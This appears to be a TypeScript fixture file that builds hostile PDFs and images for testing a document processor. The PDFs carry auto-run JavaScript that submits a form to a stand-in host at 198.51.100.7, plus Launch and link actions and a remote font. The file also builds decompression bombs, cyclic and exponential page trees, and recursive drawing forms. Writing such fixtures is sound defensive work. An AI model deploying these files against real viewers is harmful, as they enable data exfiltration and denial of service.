import { pdfOf, stream } from './hostile-pdfs.ts';

const CATALOGUE = '<< /Type /Catalog /Pages 2 0 R >>';
const HELVETICA = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const WORDS = stream('', 'BT /F1 24 Tf 72 700 Td (Invoice 2026) Tj ET');
const page = (box: string, more = ''): string =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${more} >>`;
const A4 = '0 0 595 842';
const ONE_PAGE = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';

/** Acts when it is opened, when its page is shown, and when somebody clicks: by script, and by links to follow. */
export function acting(): Buffer {
  const act = "/S /JavaScript /JS (app.alert\\('seen'\\); this.submitForm\\('http://198.51.100.7/form'\\);)";
  const link = `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (http://198.51.100.7/link) >> >>`;
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << ${act} >> /Names << /JavaScript << /Names [(a) << ${act} >>] >> >> >>`,
    ONE_PAGE,
    page(A4, `/AA << /O << ${act} >> >> /Annots [6 0 R 7 0 R]`),
    WORDS,
    HELVETICA,
    link,
    '<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /Launch /F (http://198.51.100.7/launch) >> >>',
  ]);
}

/** Refers to a picture and a font elsewhere, for a viewer that would fetch them. */
export function fetching(): Buffer {
  const elsewhere = '/F << /FS /URL /F (http://198.51.100.7/picture) >>';
  return pdfOf([
    CATALOGUE,
    ONE_PAGE,
    page(A4, ''),
    WORDS,
    '<< /Type /Font /Subtype /TrueType /BaseFont /Elsewhere /FontDescriptor 6 0 R >>',
    '<< /Type /FontDescriptor /FontName /Elsewhere /Flags 32 /FontFile2 7 0 R >>',
    stream(elsewhere, ''),
  ]);
}

export function hugeBox(): Buffer {
  return pdfOf([CATALOGUE, ONE_PAGE, page('0 0 14400000 14400000'), WORDS, HELVETICA]);
}

export function thinAsHair(): Buffer {
  return pdfOf([CATALOGUE, ONE_PAGE, page('0 0 0.0001 900000'), WORDS, HELVETICA]);
}

/** Each node of the page tree leads back to the first one. */
export function endlessTree(): Buffer {
  return pdfOf([
    CATALOGUE,
    '<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>',
    '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1000000 >>',
  ]);
}

/** Each node of the page tree has ten children, and so on: 10^20 pages. */
export function deepTree(): Buffer {
  const nodes = Array.from({ length: 20 }, (_, at) => `<< /Type /Pages /Kids [${`${at + 3} 0 R `.repeat(10)}] /Count 100000000 >>`);
  return pdfOf([CATALOGUE, ...nodes, '<< /Type /Page /MediaBox [0 0 10 10] >>']);
}

export function brokenTable(): Buffer {
  return pdfOf([CATALOGUE, ONE_PAGE, page(A4), WORDS, HELVETICA], { xref: 'wrong' });
}

export function manyPages(count = 10_000): Buffer {
  const kids = Array.from({ length: count }, (_, at) => `${at + 5} 0 R`).join(' ');
  const sheet = `<< /Type /Page /Parent 2 0 R /MediaBox [${A4}] /Contents 3 0 R /Resources << /Font << /F1 4 0 R >> >> >>`;
  return pdfOf([
    CATALOGUE,
    `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
    WORDS,
    HELVETICA,
    ...Array.from({ length: count }, () => sheet),
  ]);
}

/** A few hundred bytes that claim to be a picture of four thousand million pixels. */
export function jpegBomb(): Buffer {
  const table = [1, ...Array.from({ length: 15 }, () => 0), 0];
  const header = [
    [0xff, 0xd8],
    [0xff, 0xdb, 0, 67, 0, ...Array.from({ length: 64 }, () => 1)],
    [0xff, 0xc0, 0, 17, 8, 0xff, 0xdc, 0xff, 0xdc, 3, 1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0],
    [0xff, 0xc4, 0, 20, 0, ...table],
    [0xff, 0xc4, 0, 20, 0x10, ...table],
    [0xff, 0xda, 0, 12, 3, 1, 0, 2, 0, 3, 0, 0, 63, 0],
  ].flat();
  return Buffer.concat([Buffer.from(header), Buffer.alloc(512), Buffer.from([0xff, 0xd9])]);
}

/** The same picture inside a PDF that declares it small. */
export function jpegBombInside(): Buffer {
  const picture = jpegBomb().toString('latin1');
  const shown = stream('', 'q 595 0 0 842 0 0 cm /I1 Do Q');
  return pdfOf([
    CATALOGUE,
    ONE_PAGE,
    `<< /Type /Page /Parent 2 0 R /MediaBox [${A4}] /Contents 4 0 R /Resources << /XObject << /I1 5 0 R >> >> >>`,
    shown,
    stream('/Type /XObject /Subtype /Image /Width 100 /Height 100 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode', picture),
  ]);
}

/** Draws almost endlessly: a form draws the next one ten times, which draws the next one ten times, and so on. */
export function endlessDrawing(): Buffer {
  const forms = Array.from({ length: 12 }, (_, at) =>
    stream(`/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X ${at + 6} 0 R >> >>`, '/X Do '.repeat(10)),
  );
  return pdfOf([
    CATALOGUE,
    ONE_PAGE,
    `<< /Type /Page /Parent 2 0 R /MediaBox [${A4}] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>`,
    stream('', '/X Do'),
    ...forms,
    stream('/Type /XObject /Subtype /Form /BBox [0 0 595 842]', '0 0 595 842 re f '.repeat(50)),
  ]);
}

/** Only its first line is that of a PDF. */
export function noise(): Buffer {
  return Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from(Array.from({ length: 20_000 }, (_, at) => (at * 7_919) % 251))]);
}
